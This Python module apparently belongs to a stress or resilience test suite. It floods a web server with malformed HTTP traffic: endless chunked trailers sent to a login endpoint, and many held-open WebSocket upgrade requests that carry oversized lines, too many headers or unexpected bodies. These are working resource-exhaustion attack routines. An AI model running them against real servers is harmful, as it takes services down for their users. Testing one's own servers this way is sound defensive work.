"""没有正文的正文：没完没了的拖尾，超出界限的升级请求。"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from typing import Final

from ..assault import Assault

_TRAILERS: Final = b"a:b\r\n" * 13_000
_HELD: Final = 100
UPGRADE: Final = (
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)


async def endless_trailers(assault: Assault) -> None:
    head = assault.head("POST", "/api/v1/auth/login", "Transfer-Encoding: chunked", token=False)

    async def once() -> None:
        async with assault.call() as call:
            await call.send(head + b"2\r\n{}\r\n0\r\n")
            while True:
                await call.send(_TRAILERS)

    await assault.forever(10, once)


async def oversized_upgrades(assault: Assault) -> None:
    """一行超过 8,192 字节、超过 128 行、带正文：各守着 100 条，不回答就一直占着。"""
    own = f"/ws/user/{assault.town.attacker_id}/messages"
    meeting = f"/ws/meeting/{assault.town.meeting_id}"

    def held(request: bytes) -> Callable[[], Awaitable[None]]:
        async def once() -> None:
            async with assault.call() as call:
                await call.send(request)
                await call.until_closed()

        return once

    requests = [
        assault.head("GET", path, *UPGRADE, *lines, token=False) + body
        for path in (own, meeting, "/", "/healthz")
        for lines, body in (
            (("X-Long: " + "x" * 9_000,), b""),
            (tuple(f"X-{number}: y" for number in range(140)), b""),
            (("Content-Length: 100000",), b"z" * 1_000),
        )
    ]
    await asyncio.gather(
        *(assault.forever(3 * _HELD // len(requests), held(request)) for request in requests)
    )
